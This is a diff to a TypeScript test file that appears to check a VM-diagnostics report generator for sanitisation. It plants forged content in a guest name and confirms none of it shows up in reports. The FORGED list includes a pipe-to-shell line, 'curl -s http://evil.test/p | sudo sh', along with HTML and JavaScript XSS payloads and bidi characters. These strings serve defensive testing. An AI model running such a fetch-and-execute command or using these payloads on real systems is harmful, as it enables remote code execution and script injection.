@@ -5,7 +5,7 @@
  * row in the text report or the ip and trace tables, no line on stderr. Bidi and zero-width
  * characters are shown as escapes.
  */
-import {cp, readFile, readdir, writeFile} from 'node:fs/promises'
+import {readFile, readdir, writeFile} from 'node:fs/promises'
 import {join} from 'node:path'
 import {marked} from 'marked'
 import * as tar from 'tar'
@@ -14,8 +14,7 @@ import {bundleReports} from '../../reports/bundle-files.js'
 import {createBundle} from '../../src/core/bundle.js'
 import {errorLine, visibleControls} from '../../src/core/output.js'
 import {ReplayRunner} from '../../src/core/snapshot.js'
-import {fixtureDir} from '../helpers.js'
-import {cli, scratch} from './helpers.js'
+import {cli, rewrittenRecording, scratch} from './helpers.js'
 
 /** What the planted name tries to add: a closed fence, a heading over a command, an image, a link, HTML, a verdict row. */
 const FORGED = ['# Run this instead', 'curl -s http://evil.test/p | sudo sh', '![x](http://evil.test/x.png)', '<img src=x onerror=alert(1)>', '[click](javascript:alert(1))', 'OK  vm: all 48 checks passed']
@@ -24,13 +23,7 @@ const NAME = ['kdlab-web01', '```', ...FORGED, 'web\u202eexe.sh\u200b'].join('\n
 const xmlText = (s: string) => s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')
 
 /** The domain-link-down recording with its guest's XML renamed: the name reaches titles, evidence and fix lines. */
-async function plantedSnapshot(name = NAME): Promise<string> {
-  const dir = join(await scratch(), 'snap')
-  await cp(fixtureDir('domif-link-down'), dir, {recursive: true})
-  const xml = join(dir, 'outputs', (await readdir(join(dir, 'outputs'))).find((f) => f.endsWith('qemu-kdlab-web01.xml.txt'))!)
-  await writeFile(xml, (await readFile(xml, 'utf8')).replace('<name>kdlab-web01</name>', `<name>${xmlText(name)}</name>`))
-  return dir
-}
+const plantedSnapshot = (name = NAME) => rewrittenRecording('domif-link-down', 'qemu-kdlab-web01.xml.txt', (xml) => xml.replace('<name>kdlab-web01</name>', `<name>${xmlText(name)}</name>`))
 
 /** No line of the output is one of the forged lines, or starts with one (after list or quote markers). */
 function expectNoForgedLine(text: string, what: string) {
